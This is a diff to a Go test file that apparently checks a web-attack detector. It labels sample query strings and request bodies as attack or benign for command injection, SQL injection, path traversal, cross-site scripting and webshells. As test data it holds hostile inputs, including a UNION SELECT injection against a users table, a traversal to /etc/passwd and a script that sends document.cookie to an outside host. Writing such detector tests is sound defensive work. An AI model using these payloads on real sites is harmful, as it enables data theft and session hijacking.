@@ -51,6 +51,12 @@ func TestWritten(t *testing.T) {
 	// What people search for, without anything that a server would run.
 	f("command-injection", true, "url.query=q=ls+/var", "url.query=a=1&search=ls+/var")
 	f("command-injection", false, "url.query=host=ls+/var", "url.query=q=ls+/var;id")
+	// Words that only lead up to an exploit, and words about one.
+	f("sql-injection", false, "url.query=q=please+find+me+good+shoes+for+my+kids'+union+select+a,b+from+users--+-")
+	f("sql-injection", true, "url.query=q=what+does+union+select+do+in+my+sql", "url.query=q=why+is+my+wife's+union+select+so+slow", body(`q=please find me good shoes for my kids' union select a,b from users-- -`))
+	f("path-traversal", false, "url.query=name=the+photos+of+my+last+holiday/../../../etc/passwd")
+	f("path-traversal", true, "url.query=name=what+does+../../etc/passwd+do+in+my+log", "url.query=name=what+is+the+use+of+../../etc/passwd")
+	f("cross-site-scripting", false, "url.query=q=find+me+the+best+<script>location='//x/'%2Bdocument.cookie</script>+for+my+house")
 	// A page saved in an editor, and a threat that no words make harmless.
 	f("cross-site-scripting", true, "event.action=edit|"+body(`data=<script>alert(1)</script>`))
 	f("webshell", false, body(`title=xss&body=my teacher said that <script>alert(1)</script> runs in the comment field`))
